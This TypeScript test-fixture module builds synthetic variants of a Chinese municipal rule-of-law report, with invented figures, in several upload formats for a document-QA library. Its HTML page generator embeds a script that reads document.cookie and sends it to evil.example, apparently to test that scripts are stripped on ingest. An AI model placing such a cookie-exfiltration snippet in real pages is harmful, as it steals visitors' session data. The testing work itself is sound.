// Distinctive made-up reports for the library tests: a sample report's section with another region and invented figures, in every upload format.
import { encodeGbk, findCjkFont, makeDocx, makePdf, readSampleReport, reportParagraphs } from '@report-qa/formats/testing';

export interface VariantSpec {
  /** A real prefecture-level city that none of the sample reports covers. */
  region: string;
  year: number;
  /** Invented figures, so an answer quoting them can only come from this upload. */
  reviews: number;
  lawsuits: number;
}

export interface Variant extends VariantSpec {
  /** The report as plain text (paragraphs separated by blank lines). */
  text: string;
  paragraphs: string[];
  /** A question whose answer is `${reviews}件`. */
  question: string;
}

const HAIDONG = '000_2c522bdb5677e79f.txt';

/** Haidong's 2020 report, cut to its title, opening and dispute-resolution section, moved to another city and year. */
export function makeVariant(spec: VariantSpec): Variant {
  const lines = reportParagraphs(readSampleReport(HAIDONG));
  const pick = (prefix: string) => {
    const index = lines.findIndex((line) => line.startsWith(prefix));
    if (index < 0) throw new Error(`sample report has no line starting with ${prefix}`);
    return index;
  };
  // The section (七) runs over a page end in the sample; rejoin it so the variant reads like one paragraph.
  const sectionStart = pick('（七）');
  const section = lines.slice(sectionStart, pick('（八）')).join('');
  const closing = lines.slice(pick('二、存在问题'), pick('二、存在问题') + 3);
  const selected = [`${spec.region}人民政府`, `${spec.region}人民政府关于2020年度法治政府建设工作情况的报告`, '省人民政府：', lines[pick('2020年，在省委')]!, '一、工作开展情况', section, ...closing];
  const short = spec.region.replace(/市$/, '');
  const paragraphs = selected.map((line) =>
    line
      .replaceAll('海东市', spec.region)
      .replaceAll('海东', short)
      .replaceAll('2021', String(spec.year + 1))
      .replaceAll('2020', String(spec.year))
      .replace('行政复议申请93件', `行政复议申请${spec.reviews}件`)
      .replace('行政应诉案件186件', `行政应诉案件${spec.lawsuits}件`),
  );
  return {
    ...spec,
    paragraphs,
    text: paragraphs.join('\n\n') + '\n',
    question: `${spec.region}${spec.year}年收到多少件行政复议申请？`,
  };
}

export const SCRIPT_MARKER = 'stealCookiesForLibraryTest';

/** A government web page: navigation, breadcrumb, the report, a footer with ICP number, and scripts. */
export function makeHtmlPage(variant: Variant): string {
  const body = variant.paragraphs.map((paragraph) => `<p>${paragraph}</p>`).join('\n');
  return `<!doctype html>
<html><head><meta charset="utf-8"><title>${variant.paragraphs[1]}</title>
<script>var ${SCRIPT_MARKER} = document.cookie; fetch('https://evil.example/?c=' + ${SCRIPT_MARKER});</script>
<style>.nav { color: red; }</style></head>
<body>
<div class="header"><ul class="nav"><li><a href="/">首页</a></li><li><a href="/zwgk">政务公开</a></li><li><a href="/hdjl">互动交流</a></li></ul></div>
<div class="breadcrumb">当前位置：<a href="/">首页</a> &gt; <a href="/zwgk">政务公开</a> &gt; 法治政府建设</div>
<div class="article">
<h1>${variant.paragraphs[1]}</h1>
<div class="info">发布时间：${variant.year + 1}-03-01 来源：${variant.region}司法局 <script>document.write('${SCRIPT_MARKER}')</script></div>
<div class="content">
${body}
</div>
</div>
<div class="footer">主办单位：${variant.region}人民政府办公室 ICP备案号：甘ICP备00000000号-1 <a href="/sitemap">网站地图</a></div>
<script src="/js/analytics.js"></script>
<script>window.${SCRIPT_MARKER}Again = function () { return '<b>不应出现的脚本文字</b>'; };</script>
</body></html>
`;
}

export interface UploadFixture {
  /** What the test calls it: txt-utf8, txt-gbk, md, html, docx, pdf. */
  kind: string;
  name: string;
  bytes: Uint8Array;
  variant: Variant;
}

/** One upload per format, each with its own made-up city and figures. */
export async function makeUploadFixtures(): Promise<UploadFixture[]> {
  const variant = (region: string, reviews: number, lawsuits: number) => makeVariant({ region, year: 2023, reviews, lawsuits });
  const utf8 = variant('张掖市', 317, 1317);
  const gbk = variant('酒泉市', 428, 1428);
  const md = variant('天水市', 539, 1539);
  const html = variant('白银市', 641, 1641);
  const docx = variant('定西市', 752, 1752);
  const pdf = variant('武威市', 863, 1863);
  const encoder = new TextEncoder();
  const markdown = [`# ${md.paragraphs[1]}`, ...md.paragraphs.slice(2).map((paragraph) => (/^[一二三四五六七八九十]+、/.test(paragraph) ? `## ${paragraph}` : paragraph))].join('\n\n');
  const fixtures: UploadFixture[] = [
    { kind: 'txt-utf8', name: '张掖市2023年法治政府建设报告.txt', bytes: encoder.encode(utf8.text), variant: utf8 },
    { kind: 'txt-gbk', name: '酒泉市报告-gbk.txt', bytes: encodeGbk(gbk.text), variant: gbk },
    { kind: 'md', name: 'tianshui-report.md', bytes: encoder.encode(markdown), variant: md },
    { kind: 'html', name: 'baiyin.html', bytes: encoder.encode(makeHtmlPage(html)), variant: html },
    { kind: 'docx', name: '定西市报告.docx', bytes: await makeDocx(docx.paragraphs, docx.paragraphs[1]), variant: docx },
  ];
  const font = findCjkFont();
  if (font) {
    const made = await makePdf({ font, paragraphs: pdf.paragraphs, header: `${pdf.region}人民政府文件`, footer: (page, pages) => `— ${page} / ${pages} —` });
    fixtures.push({ kind: 'pdf', name: 'wuwei.pdf', bytes: made.bytes, variant: pdf });
  }
  return fixtures;
}

/** A synthetic report of many passages (numbered paragraphs with invented figures), for ingest and load tests. */
export function makeLargeReport(region: string, year: number, paragraphs: number): string {
  const base = makeVariant({ region, year, reviews: 101, lawsuits: 202 });
  const body: string[] = [];
  for (let index = 0; index < paragraphs; index += 1) {
    body.push(
      `（${index + 1}）第${index + 1}项工作：${region}第${index + 1}批次推进依法行政，全年共办理第${index + 1}类行政事项${1000 + index * 7}件，` +
        `组织执法人员培训${20 + index}期、参训${300 + index * 3}人次，整改问题${index + 11}个，群众满意率达到${(90 + (index % 10) / 2).toFixed(1)}%。` +
        `同时，针对第${index + 1}类事项建立台账和督办机制，逐项明确责任单位和完成时限，确保各项任务按期落实到位。`,
    );
  }
  return [...base.paragraphs.slice(0, 5), ...body].join('\n\n') + '\n';
}
